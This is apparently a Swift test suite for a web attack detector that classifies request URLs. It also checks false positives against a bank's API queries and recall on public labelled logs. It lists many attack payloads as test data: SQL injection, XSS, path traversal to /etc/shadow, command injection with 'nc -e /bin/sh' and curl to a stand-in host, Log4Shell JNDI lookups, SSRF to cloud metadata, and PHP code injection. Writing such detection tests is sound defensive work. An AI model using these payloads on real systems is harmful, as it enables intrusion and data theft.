import Foundation
import Testing

@testable import Detection

@Suite struct `The web attack engine` {
    static func value(_ text: String, _ engine: WebEngine) -> WebClass? {
        var text = text
        return text.withUTF8 { engine.judge(argument: Bytes(UnsafeRawBufferPointer($0)), name: Bytes("q"))?.kind }
    }

    static func target(_ text: String, _ engine: WebEngine) -> WebClass? {
        var text = text
        return text.withUTF8 { bytes in
            var event = LogEvent()
            AccessReader.split(Bytes(UnsafeRawBufferPointer(bytes)), &event)
            var request = WebEngine.Request()
            (request.path, request.query) = (event.path, event.query)
            return engine.judge(request)?.kind
        }
    }

    static let attacks: [(WebClass, [String])] = [
        (
            .sqlInjection,
            [
                "/x?q=%27%20OR%201%3D1--", "/x?q=1%20UNION%20ALL%20SELECT%20NULL,NULL", "/x?q=1;DROP%20TABLE%20clients",
                "/x?q=%2527%2520or%2520%25271%2527%253D%25271", "/x?q=1/**/uNiOn/*!50000select*/1,2",
                "/x?id=1)%20and%20(select%201)=1",
                "/x?q=1%27%20and%20pg_sleep(5)--", "/rest/v1/clients?nom=eq.x%27%20OR%20%271%27=%271",
            ]
        ),
        (
            .script,
            [
                "/x?q=%3Cscript%3Ealert(1)%3C/script%3E", "/x?q=%22%20onmouseover=alert(1)",
                "/x?q=%26lt;svg/onload=alert(1)%26gt;", "/x?q=javas%09cript:alert(1)",
                "/x?q=\\u003cimg%20src=x%20onerror=1",
            ]
        ),
        (
            .traversal,
            ["/x?f=../../../../opt/x", "/static/..%2f..%2f..%2fsecret", "/x?f=..%c0%af..%c0%afx", "/x/..;/admin"]
        ),
        (
            .sensitiveFile,
            ["/.env", "/.git/config", "/x?f=/etc/passwd", "/wp-config.php.bak", "/x?f=....//etc//shadow"]
        ),
        (
            .command,
            [
                "/x?q=;cat%20/etc/hostname", "/x?q=$(whoami)", "/x?q=%60id%60", "/x?q=|%20nc%20-e%20/bin/sh",
                "/x?q=a%26%26curl%20http://e.example",
            ]
        ),
        (
            .ssrf,
            [
                "/x?url=http://169.254.169.254/latest/meta-data/", "/x?url=http://127.0.0.1:5432/",
                "/x?u=gopher://10.0.0.1:6379/_",
            ]
        ),
        (.template, ["/x?q=%7B%7B7*7%7D%7D", "/x?q=%23%7B7*7%7D", "/x?q=%7B%7Bconfig%7D%7D"]),
        (.log4shell, ["/x?q=$%7Bjndi:ldap://e.example/a%7D", "/x?q=$%7B$%7Blower:j%7Dndi:rmi://e.example%7D"]),
        (.deserialization, ["/x?q=rO0ABXNyABFqYXZh", "/x?q=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D"]),
        (.xxe, ["/x?q=%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22file:///etc/x%22%3E]%3E"]),
        (.noSQLInjection, ["/x?user[$ne]=1&password[$ne]=1"]), (.splitting, ["/x?q=a%0d%0aSet-Cookie:%20b=c"]),
        (.webShell, ["/uploads/c99.php", "/x.php?cmd=id"]),
        (.fileInclusion, ["/x?page=http://e.example/shell.txt?", "/x?page=php://filter/read=x"]),
        (.probe, ["/cgi-bin/php?x", "/actuator/env"]),
    ]

    @Test func `finds each class of attack, however it is written`() throws {
        let engine = try WebEngine()
        for (kind, targets) in Self.attacks {
            for target in targets { #expect(Self.target(target, engine) != nil, "\(kind) \(target)") }
            let named = targets.count { Self.target($0, engine) == kind }
            #expect(named * 2 >= targets.count, "\(kind) is called by another name")
        }
    }

    @Test(
        "judges what stands where columns are named",
        arguments: ["select", "order", "sort", "columns", "Fields", "x.order"])
    func structure(_ name: String) throws {
        let engine = try WebEngine()
        for value in [
            "extractvalue(1,concat(0x7e,version()))", "1;drop%20table%20clients", "1;drop+table+clients",
            "id%20UNION%20SELECT%20usename,passwd%20FROM%20pg_shadow", "id+union+select+usename,passwd+from+pg_shadow",
            "(case%20when%20(1=1)%20then%20id%20else%20nom%20end)", "pg_sleep(5)", "nom,(select%20version())",
            "id::text;delete%20from%20clients", "id%2520union%2520select%2520a%2520from%2520b",
        ] {
            #expect(Self.target("/x?\(name)=\(value)", engine) != nil, "\(name)=\(value)")
        }
        for value in [
            "id", "*", "id,nom,comptes(id,solde::text)", "id,a:contact-%3E%3Eemail,adresses!inner(ville)", "count()",
            "montant.sum(),compte_id", "date.desc.nullslast,id.asc", "date%20desc", "date+desc+nulls+last", "-date",
            "nom:asc", "id;date;montant", "%22nom%22,%22prenom%22", "...agences(ville)", "comptes(id).asc", "tags-%3E0",
        ] {
            #expect(Self.target("/x?\(name)=\(value)", engine) == nil, "\(name)=\(value)")
        }
    }

    @Test func `judges what stands beside the texts of JSON, and inside of an operator's brackets`() throws {
        let engine = try WebEngine()
        for target in [
            "/x?filter=%7B%22a%22:1%7D%20union%20select%20a,b%20from%20c%20where%20x=%7B%22b%22:2%7D",
            "/x?filter=%5B%22a%22%5D;%20drop%20table%20clients%20--%20%5B%22b%22%5D",
            "/x?nom=fts('%20or%201=1--).x", "/x?id'%20or%201=1--=eq.1",
        ] {
            #expect(Self.target(target, engine) != nil, "\(target)")
        }
        #expect(Self.target("/x?filter=%7B%22a%22:%5B1.5e3,true,null%5D,%22b%22:%20false%7D", engine) == nil)
    }

    @Test(
        "finds code of PHP, behind whatever closes the text before it",
        arguments: [
            "a;exit(md5('w4p1t1_md5'));//", "a;exit(md5('w4p1t1_md5'));#", #"";exit(md5('w4p1t1_md5'));//"#,
            #"';exit(md5("x"));#"#, #"".exit(md5('w4p1t1_md5'));//"#, "'.exit(md5('w4p1t1_md5'));#",
            ";exit(md5('w4p1t1_md5'));//", "';print(23*41);//", #"";die();#"#, "1;echo base64_decode('eA==');",
            "${@print(md5(1))}", "{${exit(1)}}", "';return phpversion();//", "';echo 12*13;'",
        ])
    func scriptCode(_ text: String) throws {
        #expect(Self.value(text, try WebEngine()) != nil, "\(text)")
    }

    @Test(
        "leaves words that PHP has too",
        arguments: [
            "exit (2)", "Sortie : exit(2), puis à droite",
            "somme md5 (releve.pdf)", "echo (3 fois)", "retour; return (colis)", "Prix : 12*13 = 156",
            "die Rechnung (md5)",
            "die Miete; print", "echo.print", "l'exit de Paris; die Bahn", "loyer (octobre); chr(istophe)",
        ])
    func ordinaryWords(_ text: String) throws {
        #expect(Self.value(text, try WebEngine()) == nil, "\(text)")
    }

    /// What a bank's own API is asked, many thousand times a day.
    static func ordinary(_ index: Int) -> String {
        let names = [
            "d'Arc", "O'Brien", "l'Hôpital", "Jean-Luc", "Müller & fils", "N'Diaye", "Select", "Andorre", "Union",
        ]
        let name = names[index % names.count]
        let encoded = name.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
        let number = index * 7919 % 100_000
        return [
            "/rest/v1/clients?select=*&statut=in.(actif,bloque)&order=id.desc&limit=20",
            "/rest/v1/clients?or=(nom.eq.\(name.replacing(" ", with: "%20").replacing("&", with: "%26")),ville.ilike.*paris*)&select=id,nom,comptes(id,solde)",
            "/rest/v1/comptes?id=eq.\(number)&select=id,iban,solde::text",
            "/rest/v1/transactions?date_operation=gte.2026-10-01&date_operation=lt.2026-11-01&montant=lt.-\(number)&order=date_operation.desc,id.asc&offset=\(number)",
            "/rest/v1/clients?nom=ilike.*\(encoded)*", "/recherche?q=\(encoded)&page=2",
            "/rest/v1/clients?and=(age.gte.18,or(ville.eq.Paris,ville.eq.%22Saint-Denis%22))",
            "/auth/v1/authorize?provider=github&redirect_to=http://localhost:3000/retour&scopes=openid%20email",
            "/rest/v1/dossiers?contenu=cs.%7B%22statut%22:%22ouvert%22,%22agents%22:%5B\(number)%5D%7D",
            "/rest/v1/rpc/solde?compte=\(number)&le=2026-10-20T13:55:36%2B02:00",
            "/export?colonnes=id;date;montant&format=csv",
            "/api/comptes/\(number)/operations?libelle=\(encoded)%20-%20loyer%20(octobre)",
            "/rest/v1/clients?select=id,nom,contact->>email,adresses!inner(ville)&adresses.ville=eq.Lyon",
            "/rest/v1/clients?nom=fts(french).dupont%20%26%20martin",
            "/recherche?q=virement%20de%20\(number)%20euros%20%3E%20100",
            "/rest/v1/comptes?filter=%7B%22solde%22:%7B%22gt%22:\(number)%7D,%22nom%22:%22\(encoded)%22%7D",
            "/rest/v1/messages?texte=ilike.*select%20a%20file%20from%20the%20list*", "/assets/app.\(number).js?v=1.2.3",
        ][index % 18]
    }

    @Test func `leaves the bank's own API alone, filters and names with apostrophes too`() throws {
        let engine = try WebEngine()
        let flagged = (0..<4_000).map(Self.ordinary).filter { Self.target($0, engine) != nil }
        #expect(flagged.count * 1000 <= 2 * 4_000, "\(Set(flagged).prefix(10))")
    }

    @Test(
        "meets its bars on public labelled sets", .enabled(if: Logs.shared != nil, "../shared/data/logs is absent"))
    func publicSets() throws {
        let engine = try WebEngine()
        let folder = try #require(Logs.shared)
        var counts: [String: (flagged: Int, all: Int)] = [:]
        for (index, fields) in try Self.csv(folder + "/httpparams.csv.gz").enumerated()
        where index > 0 && fields.count >= 4 {
            let isFlagged = Self.value(fields[0], engine) != nil
            counts[fields[2], default: (0, 0)].all += 1
            if isFlagged { counts[fields[2], default: (0, 0)].flagged += 1 }
        }
        func recall(_ kind: String) -> Double {
            let (flagged, all) = counts[kind] ?? (0, 1)
            return Double(flagged) / Double(all)
        }
        #expect(recall("sqli") >= 0.99, "\(counts)")
        #expect(recall("xss") >= 0.95 && recall("path-traversal") >= 0.95 && recall("cmdi") >= 0.9, "\(counts)")
        #expect(recall("norm") <= 0.001, "\(counts)")
        let result = try LogAnalysis().run([folder + "/elastic-apache.log.gz"])
        let web = result.findings.filter { $0.rule.id.hasPrefix("web-") && $0.rule.phase == .initialAccess }
        #expect(web.reduce(0) { $0 + $1.count } <= 20, "\(web.map(\.evidence))")
    }

    static func csv(_ path: String) throws -> [[String]] {
        let blocks = try BlockSource(path: path)
        var all: [UInt8] = []
        while let block = blocks.next() {
            all.append(contentsOf: UnsafeBufferPointer(start: block.start, count: block.count))
        }
        return all.split(separator: 10).map { line in
            line.withUnsafeBytes { raw in
                var fields = CSVFields(Bytes(raw))
                var texts: [String] = []
                while let field = fields.next() { texts.append(field.text.replacing("\"\"", with: "\"")) }
                return texts
            }
        }
    }
}
